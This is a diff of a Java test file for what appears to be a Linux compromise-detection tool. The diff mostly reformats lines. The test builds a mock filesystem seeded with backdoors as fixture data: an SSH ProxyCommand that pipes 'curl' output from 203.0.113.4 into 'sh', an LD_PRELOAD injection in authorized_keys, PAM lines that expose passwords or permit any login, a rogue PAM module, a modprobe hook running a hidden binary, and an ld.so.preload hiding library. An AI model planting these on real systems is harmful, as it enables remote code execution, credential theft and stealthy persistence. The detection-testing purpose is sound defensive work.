@@ -45,11 +45,19 @@ class HuntedRootTest {
                 """);
         put("etc/shadow", "root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\nanna:!:19000:0:99999:7:::\n");
         put("etc/group", "root:x:0:\nsudo:x:27:\ndocker:x:998:\nanna:x:1000:\n");
-        put("etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n");
-        put("etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\nSubsystem sftp /usr/lib/sftp-server\n");
+        put(
+                "etc/sudoers",
+                "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n");
+        put(
+                "etc/ssh/sshd_config",
+                "Include /etc/ssh/sshd_config.d/*.conf\nUsePAM yes\nSubsystem sftp /usr/lib/sftp-server\n");
         put("etc/ssh/ssh_config", "Host *\n    SendEnv LANG LC_*\n");
-        put("etc/pam.d/sshd", "@include common-auth\naccount required pam_nologin.so\nsession optional pam_motd.so noupdate\n");
-        put("etc/pam.d/common-auth", "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n");
+        put(
+                "etc/pam.d/sshd",
+                "@include common-auth\naccount required pam_nologin.so\nsession optional pam_motd.so noupdate\n");
+        put(
+                "etc/pam.d/common-auth",
+                "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n");
         put("etc/modprobe.d/blacklist.conf", "blacklist pcspkr\ninstall dccp /bin/true\n");
         put("etc/modules", "# none\n");
         put("home/anna/.ssh/authorized_keys", KEY);
@@ -81,16 +89,21 @@ class HuntedRootTest {
         put("root/.ssh/config", "Host *\n  ProxyCommand sh -c 'curl -s http://203.0.113.4/|sh'\n");
         put("root/.ssh/authorized_keys2", KEY);
         put("var/www/.ssh/authorized_keys", "environment=\"LD_PRELOAD=/tmp/x.so\" " + KEY);
-        add("etc/pam.d/sshd", "auth optional pam_exec.so expose_authtok /usr/local/bin/a\nauth sufficient pam_permit.so\n");
+        add(
+                "etc/pam.d/sshd",
+                "auth optional pam_exec.so expose_authtok /usr/local/bin/a\nauth sufficient pam_permit.so\n");
         add("etc/pam.d/common-auth", "auth sufficient /var/tmp/.x/pam_u.so\n");
-        add("etc/modprobe.d/blacklist.conf", "install tcp_diag /var/tmp/.m & /sbin/modprobe --ignore-install tcp_diag\n");
+        add(
+                "etc/modprobe.d/blacklist.conf",
+                "install tcp_diag /var/tmp/.m & /sbin/modprobe --ignore-install tcp_diag\n");
         put("etc/ld.so.preload", "/usr/lib/libhide.so\n");
 
         List<Finding> findings = Hunted.withOwnContent(root).findings();
 
         assertThat(findings)
-                .extracting(finding -> finding.origin().path() + ":" + finding.origin().record() + " "
-                        + finding.rule().path().replaceFirst(".*/(.*)\\.yml", "$1"))
+                .extracting(finding ->
+                        finding.origin().path() + ":" + finding.origin().record() + " "
+                                + finding.rule().path().replaceFirst(".*/(.*)\\.yml", "$1"))
                 .contains(
                         "/etc/passwd:7 second_account_of_root",
                         "/etc/passwd:8 password_in_passwd",
